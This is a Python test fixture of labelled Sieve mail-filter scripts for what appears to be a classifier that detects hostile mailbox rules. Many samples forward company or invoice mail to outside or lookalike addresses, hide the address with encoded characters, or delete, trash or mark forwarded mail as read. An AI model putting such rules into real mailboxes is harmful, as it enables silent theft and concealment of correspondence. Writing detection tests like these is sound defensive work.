r"""Labelled Sieve scripts: what each does by RFC 5228 and its extensions, written down before the classifier was run.

Each case: name, script, verdict, addresses outside that mail goes to. Domains of the company: acme.example, acme.test.
The mail that Pigeonhole is asked about is from boss@client.example with the subject ``Invoice for a holiday``.
"""

from __future__ import annotations

from typing import NamedTuple


class Case(NamedTuple):
    name: str
    script: str
    verdict: str
    outside: tuple[str, ...] = ()


DOMAINS = ("acme.example", "acme.test")

CASES = (
    # Sending the whole mailbox
    Case("everything to a private mailbox", 'redirect "ann@gmail.com";', "alarm", ("ann@gmail.com",)),
    Case("a copy of everything", 'require "copy"; redirect :copy "x@p.example";', "alarm", ("x@p.example",)),
    Case("inside", 'redirect "joe@acme.example";', "notice"),
    Case("inside, second domain, other case", 'redirect "Joe@ACME.Test";', "notice"),
    Case("sub-domain", 'redirect "joe@sales.acme.example";', "notice"),
    Case("plus tag", 'redirect "joe+leads@acme.example";', "notice"),
    Case("one inside, one outside", 'redirect "a@acme.test"; redirect "b@p.example";', "alarm", ("b@p.example",)),
    Case("capitals in the command", 'ReDiReCt "x@p.example";', "alarm", ("x@p.example",)),
    Case("address as a text block", "redirect text:\nx@p.example\n.\n;", "alarm", ("x@p.example",)),
    Case(
        "our name in front of their domain",
        'redirect "a@acme.example.evil.test";',
        "alarm",
        ("a@acme.example.evil.test",),
    ),
    Case("outside and kept", 'redirect "x@p.example"; keep;', "alarm", ("x@p.example",)),
    # Conditions
    Case(
        "a copy of some mail",
        'require "copy"; if header :contains "subject" "holiday" { redirect :copy "x@p.example"; }',
        "suspicious",
        ("x@p.example",),
    ),
    Case(
        "some mail, not kept",
        'if header :contains "subject" "holiday" { redirect "x@p.example"; }',
        "suspicious",
        ("x@p.example",),
    ),
    Case(
        "keywords",
        'require "copy"; if header :contains "subject" ["Invoice", "quote"] { redirect :copy "x@p.example"; }',
        "alarm",
        ("x@p.example",),
    ),
    Case(
        "some mail to a private provider",
        'if address :is "from" "boss@client.example" { redirect "ann@hotmail.co.uk"; keep; }',
        "alarm",
        ("ann@hotmail.co.uk",),
    ),
    Case(
        "looks like us",
        'if address :is "from" "boss@client.example" { redirect "ann@acme-example.com"; keep; }',
        "alarm",
        ("ann@acme-example.com",),
    ),
    Case(
        "passes on and deletes",
        'require "copy"; if header :contains "subject" "holiday" { redirect :copy "x@p.example"; discard; }',
        "alarm",
        ("x@p.example",),
    ),
    Case(
        "passes on and files away",
        'require ["copy", "fileinto"];\n'
        'if header :contains "subject" "holiday" { redirect :copy "x@p.example"; fileinto "Old"; }',
        "alarm",
        ("x@p.example",),
    ),
    Case(
        "passes on and marks as read",
        'require ["copy", "imap4flags"];\n'
        'if header :contains "subject" "holiday" { addflag "\\\\Seen"; redirect :copy "x@p.example"; }',
        "alarm",
        ("x@p.example",),
    ),
    Case(
        "matches everything", 'if header :matches "subject" "*" { redirect "x@p.example"; }', "alarm", ("x@p.example",)
    ),
    Case("larger than nothing", 'if size :over 0 { redirect "x@p.example"; }', "alarm", ("x@p.example",)),
    Case("exists in every mail", 'if exists "from" { redirect "x@p.example"; keep; }', "alarm", ("x@p.example",)),
    Case("true", 'if allof (true, not false) { redirect "x@p.example"; }', "alarm", ("x@p.example",)),
    Case(
        "everything else",
        'if header :is "subject" "cake" { keep; } else { redirect "x@p.example"; }',
        "alarm",
        ("x@p.example",),
    ),
    Case(
        "stops for all but some",
        'require "copy"; if not header :contains "subject" "holiday" { stop; } redirect :copy "x@p.example";',
        "suspicious",
        ("x@p.example",),
    ),
    Case(
        "nested",
        'if header :contains "subject" "holiday" { if size :over 10 { redirect "x@p.example"; keep; } }',
        "suspicious",
        ("x@p.example",),
    ),
    Case(
        "elsif",
        'if header :is "subject" "cake" { discard; }\n'
        'elsif header :contains "subject" "holiday" { redirect "x@p.example"; keep; }',
        "suspicious",
        ("x@p.example",),
    ),
    Case(
        "at night",
        'require ["date", "relational"];\nif currentdate :value "ge" "year" "2020" { redirect "x@p.example"; keep; }',
        "suspicious",
        ("x@p.example",),
    ),
    # What does not run
    Case("never", 'if false { redirect "ann@gmail.com"; }', "suspicious", ("ann@gmail.com",)),
    Case("after the end", 'stop; redirect "ann@gmail.com";', "suspicious", ("ann@gmail.com",)),
    Case(
        "after an end that is always reached",
        'if true { stop; } redirect "a@gmail.com";',
        "suspicious",
        ("a@gmail.com",),
    ),
    # What is none
    Case("in a comment", '# redirect "ann@gmail.com";\nkeep;', "none"),
    Case("in a bracket comment", '/* redirect "ann@gmail.com"; # */ keep;', "none"),
    Case("between comments", '/* a */ redirect "x@p.example"; /* b */', "alarm", ("x@p.example",)),
    Case("in a string", 'require "vacation"; vacation "Dear all, redirect \\"ann@gmail.com\\"; thank you";', "none"),
    Case("in a text block", 'require "vacation";\nvacation text:\nredirect "a@gmail.com";\n..\n# no end\n.\n;', "none"),
    Case("nothing", "", "none"),
    Case("only a comment without end of line", '# redirect "a@gmail.com";', "none"),
    Case("keep", "keep;", "none"),
    Case("stop", "stop;", "none"),
    Case(
        "absence note",
        'require "vacation"; vacation :days 7 :addresses ["ann@acme.example", "a@gmail.com"] "Back soon";',
        "none",
    ),
    Case("lists", 'require "fileinto"; if exists "list-id" { fileinto "Lists"; }', "none"),
    Case("by sender", 'require "fileinto"; if address :domain "from" "p.example" { fileinto "Partners"; }', "none"),
    Case("spam", 'require "fileinto"; if header :is "X-Spam-Flag" "YES" { fileinto "Junk"; }', "none"),
    Case("marked spam", 'require "fileinto"; if header :contains "subject" "[SPAM]" { fileinto "Junk"; }', "none"),
    Case("twice", 'require "duplicate"; if duplicate { discard; }', "none"),
    Case("large mail", 'require "fileinto"; if size :over 20M { fileinto "Large"; }', "none"),
    Case("read", 'require "imap4flags"; if address "from" "bot@acme.example" { addflag "\\\\Seen"; }', "none"),
    Case(
        "detail", 'require ["envelope","subaddress","fileinto"]; if envelope :detail "to" "x" { fileinto "x"; }', "none"
    ),
    Case("date", 'require ["date", "fileinto"]; if date "date" "year" "2001" { fileinto "Old years"; }', "none"),
    Case("body", 'require ["body", "fileinto"]; if body :text :contains "lunch" { fileinto "Lunch"; }', "none"),
    Case("mailbox exists", 'require ["mailbox", "fileinto"]; if mailboxexists "A" { fileinto :create "A"; }', "none"),
    # Hiding, lifting, telling
    Case("deletes a sender", 'if address "from" "boss@client.example" { discard; }', "suspicious"),
    Case("deletes everything", "discard;", "suspicious"),
    Case("rubbish", 'require "fileinto"; if header :contains "subject" "Invoice" { fileinto "Trash"; }', "suspicious"),
    Case(
        "feeds",
        'require "fileinto"; if address :domain "from" "client.example" { fileinto "INBOX.RSS Feeds"; }',
        "suspicious",
    ),
    Case("lifts", 'require "imap4flags"; if address "from" "boss@client.example" { addflag "\\\\Flagged"; }', "notice"),
    Case("priority folder", 'require "fileinto"; if address "from" "a@b.example" { fileinto "Priority"; }', "notice"),
    Case("refuses", 'require "reject"; if address "from" "a@b.example" { reject "No."; }', "notice"),
    Case("tells inside", 'require "enotify"; notify "mailto:joe@acme.example";', "notice"),
    Case(
        "tells outside",
        'require "enotify"; notify :message "mail" "mailto:x@p.example";',
        "suspicious",
        ("x@p.example",),
    ),
    Case(
        "tells inside, and somebody else",
        'require "enotify"; notify "mailto:joe@acme.example?subject=x&bcc=x%40p.example";',
        "suspicious",
        ("x@p.example",),
    ),
    # Cannot tell
    Case(
        "variable",
        'require "variables"; if header :matches "subject" "*" { set "x" "${1}"; } redirect "${x}";',
        "notice",
    ),
    Case(
        "variable that the script fills",
        'require "variables"; set "to" "x@p.example"; redirect "${to}";',
        "alarm",
        ("x@p.example",),
    ),
    Case(
        "variable before a fixed domain",
        'require "variables"; if header :matches "subject" "*oli*" { redirect "${1}@p.example"; keep; }',
        "suspicious",
        ("${1}@p.example",),
    ),
    Case("coded", 'require "encoded-character"; redirect "x${hex:40}p.example";', "alarm", ("x@p.example",)),
    Case(
        "coded twice",
        'require "encoded-character"; redirect "x${unicode:0040}p${HEX: 2e}example";',
        "alarm",
        ("x@p.example",),
    ),
    Case("broken", 'redirect "ann@gmail.com"', "notice"),
    Case("no script at all", "Dear Joe, please forward my mail.", "notice"),
)

WITH_PLUGINS = (
    Case("includes", 'require "include"; include :personal "other";', "notice"),
    Case("includes from the server", 'require "include"; include :global "all"; keep;', "notice"),
    Case("refuses early", 'require "ereject"; if address "from" "a@b.example" { ereject "No."; }', "notice"),
    Case("pipe", 'require "vnd.dovecot.pipe"; pipe "crm" ["a@gmail.com"];', "notice"),
    Case("filter", 'require "vnd.dovecot.filter"; filter "clean";', "notice"),
    Case("execute as a test", 'require "vnd.dovecot.execute"; if execute "look" { keep; }', "notice"),
    Case("unknown command", 'require "vnd.example.fly"; fly "away";', "notice"),
    Case("unknown command with a block", 'with_wings { redirect "x@p.example"; }', "alarm", ("x@p.example",)),
    Case("list of receivers", 'require ["extlists"]; redirect :list "tag:example,2026:all";', "notice"),
    Case(
        "old notify",
        'require "notify"; notify :method "mailto" :options "x@p.example";',
        "suspicious",
        ("x@p.example",),
    ),
    Case("by phone", 'require "enotify"; notify "tel:+441174960123";', "notice"),
    Case(
        "parts and headers",
        'require ["foreverypart", "mime", "editheader", "ihave"];\n'
        'if ihave "editheader" { addheader "X-A" "b"; deleteheader "X-C"; }\n'
        'foreverypart { if header :mime :type "content-type" "image" { break; } }',
        "none",
    ),
    Case("spam score", 'require ["spamtest", "relational"]; if spamtest :value "ge" "5" { discard; }', "none"),
)
